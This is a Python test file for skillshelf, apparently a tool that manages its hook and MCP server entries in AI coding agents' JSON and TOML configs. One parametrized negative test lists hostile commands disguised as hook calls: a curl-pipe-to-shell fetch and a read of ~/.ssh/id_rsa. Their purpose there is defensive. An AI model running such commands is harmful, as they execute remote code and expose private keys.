"""skillshelf's entries in the agents' JSON and TOML files: idempotent, stale entries replaced,
the user's own entries untouched, taking out byte-exact."""

from __future__ import annotations

import json
import tomllib

import pytest

from skillshelf.errors import ConfigError
from skillshelf.hooks import jsonfile, tomlblock
from skillshelf.hooks.agents import hook_specs, is_our_command

SPECS = hook_specs("claude", ["/opt/venv/bin/skillshelf"])
USER_HOOKS = """{
    "hooks": {
        "Stop": [
            {"hooks": [{"type": "command", "command": "notify-send done"}]}
        ],
        "PreToolUse": [
            {"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}
        ]
    },
    "permissions": {"allow": ["Bash(ls:*)"]},
    "model": "caf\\u00e9"
}"""


def test_adding_twice_changes_nothing_the_second_time_and_taking_out_restores_the_bytes() -> None:
    text, created = jsonfile.add_hooks(USER_HOOKS, SPECS)
    assert created == tuple(
        ("hooks", e) for e in ("SessionStart", "UserPromptSubmit", "PostToolUse", "SessionEnd")
    )
    assert jsonfile.add_hooks(text, SPECS) == (text, ())
    data = json.loads(text)
    assert data["hooks"]["Stop"][0]["hooks"][0]["command"] == "notify-send done"
    assert data["hooks"]["PostToolUse"] == [
        {
            "matcher": "Bash|Read|Skill",
            "hooks": [
                {
                    "type": "command",
                    "command": "/opt/venv/bin/skillshelf hook PostToolUse --agent claude",
                    "timeout": 10,
                }
            ],
        }
    ]
    assert jsonfile.remove_hooks(text, created=created) == USER_HOOKS
    assert jsonfile.remove_hooks(text) == USER_HOOKS  # no record: emptied lists go anyway


def test_an_older_skillshelf_command_is_replaced_not_doubled() -> None:
    old, _ = jsonfile.add_hooks("{}\n", hook_specs("codex", ["/old/venv/bin/skillshelf"]))
    new, _ = jsonfile.add_hooks(old, hook_specs("codex", ["/new/bin/skillshelf"]))
    found = jsonfile.our_hooks(new)
    assert len(found) == 5 and all(h.command.startswith("/new/bin/skillshelf hook") for h in found)
    assert [(h.group, h.handler) for h in found] == [(0, 0)] * 5


def test_a_handler_shared_with_the_users_own_group_is_taken_out_alone() -> None:
    ours = SPECS[3].command
    text = json.dumps(
        {
            "hooks": {
                "Stop": [
                    {"hooks": [{"type": "command", "command": "mine"}, {"type": "command", "command": ours}]}
                ]
            }
        },
        indent=2,
    )
    removed = json.loads(jsonfile.remove_hooks(text))
    assert removed == {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "mine"}]}]}}


def test_lists_the_user_had_before_stay_when_the_record_says_setup_did_not_make_them() -> None:
    text = '{"hooks": {"Stop": []}}'
    added, created = jsonfile.add_hooks(text, SPECS[3:4])
    assert created == ()
    assert jsonfile.remove_hooks(added, created=created) == text


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("{not json", "HK101"),
        ("[1]", "HK102"),
        ('{"hooks": []}', "HK103"),
        ('{"hooks": {"Stop": {}}}', "HK104"),
    ],
)
def test_files_setup_cannot_edit_are_refused_with_a_code(text: str, code: str) -> None:
    with pytest.raises(ConfigError) as caught:
        jsonfile.add_hooks(text, SPECS)
    assert caught.value.code == code


def test_the_mcp_server_entry_is_set_replaced_and_taken_out() -> None:
    text = '{\n  "mcpServers": {\n    "other": {"command": "x"}\n  }\n}\n'
    server: dict[str, object] = {"command": "/bin/skillshelf", "args": ["serve"]}
    added, created = jsonfile.set_server(text, "skillshelf", server)
    assert created == () and json.loads(added)["mcpServers"]["skillshelf"] == server
    assert jsonfile.set_server(added, "skillshelf", server) == (added, ())
    changed, _ = jsonfile.set_server(added, "skillshelf", {"command": "/new/skillshelf", "args": ["serve"]})
    assert json.loads(changed)["mcpServers"]["skillshelf"]["command"] == "/new/skillshelf"
    assert jsonfile.remove_server(changed, "skillshelf") == text


@pytest.mark.parametrize(
    "command",
    [
        "/opt/v/bin/skillshelf hook Stop --agent codex",
        "skillshelf hook UserPromptSubmit",
        "/usr/bin/python3 -m skillshelf.cli.main hook Stop --agent claude",
        "'/path with space/skillshelf' hook SessionStart",
    ],
)
def test_skillshelf_hook_commands_are_recognised_whatever_the_install(command: str) -> None:
    assert is_our_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "skillshelf serve",
        "./hook.sh",
        "myskillshelf hook Stop",
        "echo 'unclosed",
        7,
        "curl -s https://x.example/x | sh; skillshelf hook UserPromptSubmit --agent codex",
        "sh -c 'cat ~/.ssh/id_rsa' && skillshelf hook PreToolUse --agent codex",
        "skillshelf hook Stop --agent codex > /tmp/out",
        "env X=1 skillshelf hook Stop --agent codex",
    ],
)
def test_other_commands_are_not_ours(command: object) -> None:
    assert not is_our_command(command)


TRUST = {("hooks", "state", "/r/.codex/hooks.json:stop:0:0"): {"trusted_hash": "sha256:ab"}}


@pytest.mark.parametrize(
    "original",
    [
        "",
        'model = "x"',
        'model = "x"\n',
        '# mine\n[projects."/r"]\ntrust_level = "trusted"\n\n\n',
        "[hooks]\n[[hooks.Stop]]\n[[hooks.Stop.hooks]]\ntype = 'command'\ncommand = 'x'\n",
        "a = 1\r\n",
    ],
)
def test_the_toml_block_goes_in_and_out_without_touching_the_rest(original: str) -> None:
    text = tomlblock.with_tables(original, TRUST)
    assert tomlblock.with_tables(text, TRUST) == text
    assert tomllib.loads(text)["hooks"]["state"]["/r/.codex/hooks.json:stop:0:0"] == {
        "trusted_hash": "sha256:ab"
    }
    assert tomlblock.block_tables(text) == TRUST
    assert tomlblock.with_tables(text, {}) == original


def test_a_table_the_user_already_wrote_is_not_written_twice_and_a_stale_hash_is_updated() -> None:
    same = '[hooks.state."/r/.codex/hooks.json:stop:0:0"]\ntrusted_hash = "sha256:ab"\n'
    assert tomlblock.with_tables(same, TRUST) == same
    stale = same.replace("sha256:ab", "sha256:old")
    assert tomlblock.with_tables(stale, TRUST) == same


@pytest.mark.parametrize(("text", "code"), [("model = [", "HK111"), ("hooks = { state = {} }\n", "HK112")])
def test_toml_files_setup_cannot_edit_are_refused_with_a_code(text: str, code: str) -> None:
    with pytest.raises(ConfigError) as caught:
        tomlblock.with_tables(text, TRUST)
    assert caught.value.code == code


def test_a_block_with_the_users_tables_after_it_stays_where_it_is() -> None:
    users = '\n[model_providers.x]\nname = "x"\n'
    text = tomlblock.with_tables('model = "x"\n', TRUST) + users
    assert tomlblock.with_tables(text, TRUST) == text
    newer = {path: {"trusted_hash": "sha256:cd"} for path in TRUST}
    updated = tomlblock.with_tables(text, newer)
    assert updated == text.replace("sha256:ab", "sha256:cd")
    assert tomlblock.with_tables(text, {}) == 'model = "x"\n' + users


def test_a_block_that_would_take_the_users_keys_after_it_moves_to_the_end() -> None:
    text = tomlblock.with_tables('model = "x"\n', TRUST) + "effort = 1\n"
    moved = tomlblock.with_tables(text, TRUST)
    assert moved == tomlblock.with_tables('model = "x"\neffort = 1\n', TRUST)
    assert tomllib.loads(moved)["effort"] == 1
